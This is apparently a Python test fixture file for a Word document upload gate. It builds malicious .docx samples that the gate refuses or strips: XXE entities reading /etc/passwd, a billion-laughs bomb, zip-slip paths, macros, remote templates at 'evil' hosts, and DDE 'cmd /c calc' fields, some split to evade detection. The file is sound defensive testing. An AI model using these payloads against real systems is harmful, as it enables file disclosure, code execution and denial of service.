"""Files that are no honest Word files: each is refused, or let in without what is dangerous."""

from io import BytesIO
from zipfile import ZIP_BZIP2, ZIP_DEFLATED, ZipFile

from app.documents.gate import Hazard, Refusal
from tests.documents.word_files import (
    DECLARED,
    PROLOGUE,
    pack,
    paragraph,
    parts_of,
    relation,
    relations,
    run,
    word_file,
)

_OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
_MACROS = "application/vnd.ms-office.vbaProject"
_WITH_MACROS = "application/vnd.ms-word.document.macroEnabled.main+xml"
_LAUGH = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10 if n else "ha"}">' for n in range(12))


def _with(**parts: str | bytes) -> bytes:
    named = {name.replace("__", "/").replace("_xml", ".xml"): each for name, each in parts.items()}
    return pack({**parts_of(paragraph("Text")), **named})


def _document(inside: str, *, before: str = "") -> str:
    return f"{PROLOGUE}{before}<w:document {DECLARED}><w:body>{inside}</w:body></w:document>"


def _twice() -> bytes:
    written = BytesIO()
    parts = parts_of(paragraph("What Python reads"))
    with ZipFile(written, "w", ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
        archive.writestr("WORD/document.xml", parts["word/document.xml"])
    return written.getvalue()


def _packed_otherwise() -> bytes:
    written = BytesIO()
    with ZipFile(written, "w", ZIP_BZIP2) as archive:
        for name, content in parts_of(paragraph("Text")).items():
            archive.writestr(name, content)
    return written.getvalue()


def _locked_zip() -> bytes:
    content = bytearray(word_file(paragraph("Text")))
    for mark, shift in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        place = content.find(mark)
        while place >= 0:
            content[place + shift] |= 1
            place = content.find(mark, place + 4)
    return bytes(content)


def _broken() -> bytes:
    content = bytearray(_with(word__media__seal_png=bytes(range(256)) * 40))
    place = content.find(b"seal_png") + 40
    content[place : place + 8] = b"\xff" * 8
    return bytes(content)


def _bomb() -> bytes:
    return _with(word__document_xml=_document(f"<w:p>{'<w:r/>' * 1_500_000}</w:p>"))


def refused() -> dict[str, tuple[bytes, Refusal]]:
    """Return the files that are not read at all, by what is wrong with each."""
    outside = relations(relation("rId9", "image", "../../../../etc/passwd"))
    external = '<!DOCTYPE w:document SYSTEM "file:///etc/passwd">'
    entity = '<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    return {
        "an old document": (_OLE + b"WordDocument" * 90, Refusal.OLD_FORMAT),
        "a password": (_OLE + "EncryptedPackage".encode("utf-16-le"), Refusal.ENCRYPTED),
        "a zip with a password": (_locked_zip(), Refusal.ENCRYPTED),
        "a picture": (b"\x89PNG\r\n\x1a\n" + b"0" * 99, Refusal.NOT_WORD),
        "nothing": (b"", Refusal.NOT_WORD),
        "a zip of something else": (pack({"mimetype": "application/zip"}), Refusal.NOT_WORD),
        "half a file": (word_file(paragraph("Text"))[:900], Refusal.DAMAGED),
        "a broken part": (_broken(), Refusal.DAMAGED),
        "an external entity": (
            _with(word__document_xml=_document("<w:p/>", before=entity)),
            Refusal.UNSAFE,
        ),
        "an external document type": (
            _with(word__styles_xml=f"{PROLOGUE}{external}<w:styles {DECLARED}/>"),
            Refusal.UNSAFE,
        ),
        "a billion laughs": (
            _with(
                word__document_xml=_document(paragraph("&a11;"), before=f"<!DOCTYPE d [{_LAUGH}]>")
            ),
            Refusal.UNSAFE,
        ),
        "a bomb": (_bomb(), Refusal.TOO_LARGE),
        "too many parts": (
            pack({**parts_of(""), **{f"word/media/{n}.png": b"" for n in range(2_100)}}),
            Refusal.TOO_LARGE,
        ),
        "too many elements": (
            _with(word__document_xml=_document("<w:r/><!---->" * 1_700_000)),
            Refusal.TOO_LARGE,
        ),
        "nesting without end": (
            _with(word__document_xml=_document("<w:p>" * 5_000 + "</w:p>" * 5_000)),
            Refusal.DAMAGED,
        ),
        "a part that is there twice": (_twice(), Refusal.UNSAFE),
        "a climbing name": (pack({**parts_of(""), "../../evil.xml": "<a/>"}), Refusal.UNSAFE),
        "an absolute name": (pack({**parts_of(""), "/etc/cron.d/evil": "x"}), Refusal.UNSAFE),
        "a name of Windows": (pack({**parts_of(""), "C:\\evil.dll": "x"}), Refusal.UNSAFE),
        "a climbing relationship": (
            pack({**parts_of(""), "word/_rels/styles.xml.rels": outside}),
            Refusal.UNSAFE,
        ),
        "parts packed otherwise": (_packed_otherwise(), Refusal.UNSAFE),
    }


def _field(*pieces: str, result: str = "shown last") -> str:
    read = "".join(
        f'<w:r><w:instrText xml:space="preserve">{each}</w:instrText></w:r>' for each in pieces
    )
    begin, separate, end = (
        f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "separate", "end")
    )
    return f"<w:p>{begin}{read}{separate}{run(result)}{end}</w:p>"


def _built() -> str:
    begin, separate, end = (
        f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "separate", "end")
    )
    inner = f"{begin}<w:r><w:instrText> QUOTE 68 68 69 </w:instrText></w:r>{separate}{end}"
    outer = f"{begin}{inner}<w:r><w:instrText> cmd /c calc </w:instrText></w:r>{separate}"
    return f"<w:p>{outer}{run('shown last')}{end}</w:p>"


def _hung(body: str, key: str, kind: str, target: str, *, content: bytes | None = None) -> bytes:
    external = content is None
    parts = parts_of(body, further=(relation(key, kind, target, external=external),))
    if content is not None:
        parts[f"word/{target}"] = content
    return pack(parts)


def _macros() -> bytes:
    parts = parts_of(
        paragraph("shown last"),
        further=(relation("rId9", "vbaProject", "vbaProject.bin"),),
        types=f'<Override PartName="/word/vbaProject.bin" ContentType="{_MACROS}"/>',
        main=_WITH_MACROS,
    )
    return pack({**parts, "word/vbaProject.bin": _OLE})


def _picture(attribute: str) -> str:
    return (
        '<w:p><w:r><w:drawing><wp:inline><a:graphic><a:graphicData uri="x">'
        f'<a:blip {attribute}="rId9"/></a:graphicData></a:graphic></wp:inline></w:drawing></w:r>'
        f"{run('shown last')}</w:p>"
    )


def stripped() -> dict[str, tuple[bytes, Hazard]]:
    """Return the files that are let in without something, by what is dangerous in each."""
    linked = f'<w:p><w:hyperlink r:id="rId9">{run("shown last")}</w:hyperlink></w:p>'
    shown = run("shown last")
    inside = '<w:object><v:shape/><o:OLEObject r:id="rId9"/></w:object>'
    shape = f"<w:p><w:r>{inside}</w:r>{shown}</w:p>"
    settings = parts_of(paragraph("shown last"), settings='<w:attachedTemplate r:id="rId1"/>')
    template = relation("rId1", "attachedTemplate", "http://evil/x.dotm", external=True)
    instruction = "INCLUDETEXT &quot;//evil/x&quot;"
    simple = f'<w:p><w:fldSimple w:instr="{instruction}">{shown}</w:fldSimple></w:p>'
    return {
        "macros": (_macros(), Hazard.MACROS),
        "a template elsewhere": (
            pack({**settings, "word/_rels/settings.xml.rels": relations(template)}),
            Hazard.OUTSIDE_TEMPLATE,
        ),
        "a picture elsewhere": (
            _hung(_picture("r:link"), "rId9", "image", "http://evil/x.png"),
            Hazard.OUTSIDE_PICTURE,
        ),
        "a link to a file": (
            _hung(linked, "rId9", "hyperlink", "file:///c:/windows/x.exe"),
            Hazard.OUTSIDE_LINK,
        ),
        "an embedded object": (
            _hung(shape, "rId9", "oleObject", "embeddings/oleObject1.bin", content=_OLE),
            Hazard.EMBEDDED_FILE,
        ),
        "an object elsewhere": (
            _hung(shape, "rId9", "oleObject", "http://evil/x.xls"),
            Hazard.EMBEDDED_FILE,
        ),
        "a control": (
            _hung(
                f'<w:p><w:r><w:control r:id="rId9"/></w:r>{run("shown last")}</w:p>',
                "rId9",
                "control",
                "activeX/activeX1.xml",
                content=b"<a/>",
            ),
            Hazard.CONTROLS,
        ),
        "another file within": (
            _hung(
                f'<w:altChunk r:id="rId9"/>{paragraph("shown last")}',
                "rId9",
                "aFChunk",
                "afchunk.htm",
                content=b"<html><script>alert(1)</script></html>",
            ),
            Hazard.OTHER_FILE,
        ),
        "a letter merge": (
            word_file(paragraph("shown last"), settings="<w:mailMerge><w:query/></w:mailMerge>"),
            Hazard.MAIL_MERGE,
        ),
        "DDE": (word_file(_field(" DDE cmd &quot;/c calc&quot; ")), Hazard.FIELD),
        "DDEAUTO over runs": (word_file(_field(" DD", "EAU", "TO c:\\\\x ")), Hazard.FIELD),
        "DDE that another field writes": (word_file(_built()), Hazard.FIELD),
        "INCLUDEPICTURE": (word_file(_field(' includepicture "http://evil" ')), Hazard.FIELD),
        "INCLUDETEXT in one piece": (word_file(simple), Hazard.FIELD),
        "a field that leads to a file": (
            word_file(_field(r' HYPERLINK \o "tip" "file:///c:/x.exe" ')),
            Hazard.FIELD,
        ),
    }
